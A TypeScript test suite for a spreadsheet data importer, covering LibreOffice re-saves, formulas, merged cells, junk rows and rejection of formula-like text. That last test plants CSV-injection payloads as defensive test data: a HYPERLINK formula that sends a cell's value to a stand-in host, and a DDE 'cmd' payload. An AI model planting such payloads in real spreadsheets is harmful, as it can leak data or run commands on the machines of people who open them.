/**
 * `npm run data:import` on workbooks as spreadsheet programs and people really leave
 * them: re-saved by LibreOffice (a committed file: CI has no LibreOffice; see
 * fixtures/libreoffice/README.md), holding formulas with and without stored results,
 * merged cells, thousands of junk rows, text that a spreadsheet would run as a formula.
 * Each imports into a copy of the data and asserts what is said and that nothing was
 * written unless the import passed. The synthetic workbooks are built here with exceljs.
 */
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterEach, describe, expect, it } from 'vitest';
import { readRawData } from '../../geo/tools/read-data';
import { readWorkbook } from '../../geo/tools/xlsx-read';
import { dataSnapshot, run, SHEET_FILES, type Run } from './fixtures/commands';
import { copyOfData, removeCopies } from './fixtures/data-copy';
import { ROOT } from './fixtures/real-data';
import { column, exportedWorkbook, sheet } from './fixtures/workbook';

const LIBREOFFICE = join(ROOT, 'tests/unit/fixtures/libreoffice');
const NAME_EN = '名称（英文） / Name (English)';
const SUMMARY_EN = '摘要（英文） / Summary (English)';
const DISTRICTS = '所在区 / Districts';
const YOY = '同比增长（%） / Growth on previous year (%)';
const CORE = '核心区 / Core zone';
const POSITIONING_EN = '功能定位（英文） / Positioning (English)';

async function load(file: string): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(file);
  return wb;
}

/** Imports `file` into `dir`; `written` tells whether any data file changed (bytes or time). */
async function importInto(dir: string, file: string): Promise<Run & { written: boolean }> {
  const before = dataSnapshot(dir);
  const r = await run('data-import', [file, dir]);
  return { ...r, written: JSON.stringify(dataSnapshot(dir)) !== JSON.stringify(before) };
}

/** The exported workbook, changed by `edit`, saved in a copy of the data and imported there. */
async function importEdited(edit: (wb: ExcelJS.Workbook) => void): Promise<Run & { written: boolean }> {
  const dir = copyOfData('atlas-spreadsheet-');
  const wb = await exportedWorkbook();
  edit(wb);
  const file = join(dir, 'edited.xlsx');
  await wb.xlsx.writeFile(file);
  return importInto(dir, file);
}

/** The cell under `header` in row `row`. */
function cellAt(wb: ExcelJS.Workbook, name: string, row: number, header: string): ExcelJS.Cell {
  const ws = sheet(wb, name);
  return ws.getCell(row, column(ws, header).index);
}

/** `sheet, row R, column X (header)` for a cell of the exported workbook. */
function where(wb: ExcelJS.Workbook, name: string, row: number, header: string): string {
  return `${name}, row ${row}, column ${column(sheet(wb, name), header).letter} (${header})`;
}

/** The first row of `name` whose cell under `header` satisfies `test`. */
function firstRow(wb: ExcelJS.Workbook, name: string, header: string, test: (v: ExcelJS.CellValue) => boolean) {
  const ws = sheet(wb, name);
  for (let r = 2; r <= ws.rowCount; r++) if (test(cellAt(wb, name, r, header).value)) return r;
  throw new Error(`${name} has no row this test needs under ${header}`);
}

const failed = (n: number) => `data:import failed: ${n} problem(s); nothing was written`;

afterEach(removeCopies);

/** Each import reads, checks and formats the whole data: seconds on a busy 2-core machine. */
const IMPORT = 30_000;

describe('a workbook LibreOffice re-saved', () => {
  const original = join(LIBREOFFICE, 'exported.xlsx');
  const resaved = join(LIBREOFFICE, 'libreoffice.xlsx');

  it('holds its booleans as formulas with stored results, where the export wrote plain values', async () => {
    const formulas = (wb: ExcelJS.Workbook) => {
      const found: string[] = [];
      for (const ws of wb.worksheets)
        ws.eachRow((row) =>
          row.eachCell((cell) => {
            if (cell.type === ExcelJS.ValueType.Formula) found.push(`${cell.formula}=${String(cell.result)}`);
          }),
        );
      return new Set(found);
    };
    expect(formulas(await load(original))).toEqual(new Set());
    expect(formulas(await load(resaved))).toEqual(new Set(['FALSE()=false', 'TRUE()=true']));
  });

  it('reads exactly as the workbook it was saved from', async () => {
    const base = readRawData(ROOT).raw;
    const before = readWorkbook(await load(original), base);
    const after = readWorkbook(await load(resaved), base);
    expect(before.problems).toEqual([]);
    expect(after.problems).toEqual([]);
    expect(after.files).toEqual(before.files);
  });

  it(
    'imports into the data it was exported from, every file unchanged',
    async () => {
      const dir = copyOfData('atlas-libreoffice-');
      // The fixture's data (the committed data when it was made), in the copy.
      const first = await importInto(dir, original);
      expect(first.stderr).toEqual([]);
      const r = await importInto(dir, resaved);
      expect(r.stderr).toEqual([]);
      expect(r.status).toBe(0);
      expect(r.stdout.slice(0, SHEET_FILES.length)).toEqual(SHEET_FILES.map((f) => `${f}: unchanged`));
      expect(r.written).toBe(false);
    },
    IMPORT,
  );
});

describe('formulas', () => {
  it(
    'count by the result stored with them: numbers, booleans and text',
    async () => {
      const r = await importEdited((wb) => {
        const row = firstRow(wb, 'figures', YOY, (v) => typeof v === 'number');
        const yoy = cellAt(wb, 'figures', row, YOY);
        const value = yoy.value as number;
        yoy.value = { formula: `${value}-0`, result: value };
        const core = cellAt(wb, 'profiles', 2, CORE);
        core.value = core.value ? { formula: 'TRUE()', result: true } : { formula: 'FALSE()', result: false };
        const name = cellAt(wb, 'records', 2, NAME_EN);
        name.value = { formula: `TRIM(" ${String(name.value)} ")`, result: String(name.value) };
      });
      expect(r.stderr).toEqual([]);
      expect(r.status).toBe(0);
      expect(r.stdout.slice(0, SHEET_FILES.length)).toEqual(SHEET_FILES.map((f) => `${f}: unchanged`));
      expect(r.written).toBe(false);
    },
    IMPORT,
  );

  it(
    'without a stored result are an error that asks for the value, in optional and required columns alike',
    async () => {
      let lines: string[] = [];
      const r = await importEdited((wb) => {
        // As openpyxl saves `ws['G2'] = '=22+0.83'`: the formula alone, no result.
        cellAt(wb, 'figures', 2, YOY).value = { formula: '22+0.83' };
        cellAt(wb, 'records', 2, NAME_EN).value = { formula: 'B2' };
        const why =
          'but no value computed from it (the program that saved the file does not calculate); type the value itself';
        lines = [
          failed(2),
          `${where(wb, 'records', 2, NAME_EN)}: this cell holds a formula (=B2) ${why}`,
          `${where(wb, 'figures', 2, YOY)}: this cell holds a formula (=22+0.83) ${why}`,
        ];
      });
      expect(r.stderr).toEqual(lines);
      expect(r.status).toBe(1);
      expect(r.written).toBe(false);
    },
    IMPORT,
  );
});

describe('merged cells', () => {
  it(
    'anywhere in a data sheet are an error naming the range, since a merge copies one value across rows',
    async () => {
      let districts = '';
      const r = await importEdited((wb) => {
        const records = sheet(wb, 'records');
        districts = column(records, DISTRICTS).letter;
        records.mergeCells(`${districts}25:${districts}26`);
        records.mergeCells('B30:B31');
        // Beside the data, where no column is read: still refused (it moves with the columns people move).
        sheet(wb, 'profiles').mergeCells('Z3:AB3');
      });
      const why =
        'merged cells: only the first cell of a merge keeps its value, so the others would silently copy it; unmerge them and give each cell its own value';
      expect(r.stderr[0]).toMatch(/^data:import failed: \d+ problem\(s\); nothing was written$/);
      expect(r.stderr).toContain(`records, ${districts}25:${districts}26: ${why}`);
      expect(r.stderr).toContain(`records, B30:B31: ${why}`);
      expect(r.stderr).toContain(`profiles, Z3:AB3: ${why}`);
      expect(r.status).toBe(1);
      expect(r.written).toBe(false);
    },
    IMPORT,
  );
});

describe('text a spreadsheet would run as a formula', () => {
  it(
    'is refused wherever it begins with =, +, - or @, naming the cell and why',
    async () => {
      let lines: string[] = [];
      const r = await importEdited((wb) => {
        // Typed with an apostrophe (or saved by a script): text, not a formula, in the file.
        cellAt(wb, 'records', 2, NAME_EN).value = '=HYPERLINK("http://evil.example/?x="&A1,"Details")';
        cellAt(wb, 'records', 3, SUMMARY_EN).value = '@SUM(1+1)*cmd|" /C calc"!A0';
        cellAt(wb, 'records', 4, SUMMARY_EN).value = '+1 more';
        cellAt(wb, 'profiles', 2, POSITIONING_EN).value = ' -2+3';
        const why =
          'text may not begin with =, +, - or @: a spreadsheet opening an export would take it for a formula (CSV injection); reword it or drop that character';
        lines = [
          failed(4),
          `${where(wb, 'records', 2, NAME_EN)}: ${why}`,
          `${where(wb, 'records', 3, SUMMARY_EN)}: ${why}`,
          `${where(wb, 'records', 4, SUMMARY_EN)}: ${why}`,
          `${where(wb, 'profiles', 2, POSITIONING_EN)}: ${why}`,
        ];
      });
      expect(r.stderr).toEqual(lines);
      expect(r.status).toBe(1);
      expect(r.written).toBe(false);
    },
    IMPORT,
  );
});

describe('20,000 junk rows', () => {
  it(
    'give the count first, 50 problems and how many more, and write nothing',
    async () => {
      const JUNK = 20_000;
      let first = 0;
      const r = await importEdited((wb) => {
        const records = sheet(wb, 'records');
        first = records.rowCount + 1;
        for (let i = 0; i < JUNK; i++) records.getCell(first + i, column(records, NAME_EN).index).value = `junk ${i}`;
      });
      const count = /^data:import failed: (\d+) problem\(s\); nothing was written$/.exec(r.stderr[0] ?? '');
      const n = Number(count?.[1]);
      expect(n).toBeGreaterThanOrEqual(JUNK);
      expect(r.stderr).toHaveLength(1 + 50 + 1);
      expect(r.stderr.slice(1, 51).every((l) => /^records, row \d+, column [A-Z]+ \(/.test(l))).toBe(true);
      expect(r.stderr[1]).toMatch(new RegExp(`^records, row ${first}, column A \\(编号 / ID\\): this cell is empty`));
      expect(r.stderr.at(-1)).toBe(`and ${n - 50} more (fix the ones above and import again to see them)`);
      expect(r.status).toBe(1);
      expect(r.written).toBe(false);
    },
    // Writing and reading 20,000 rows with exceljs on top of an import: the slowest test here.
    60_000,
  );
});
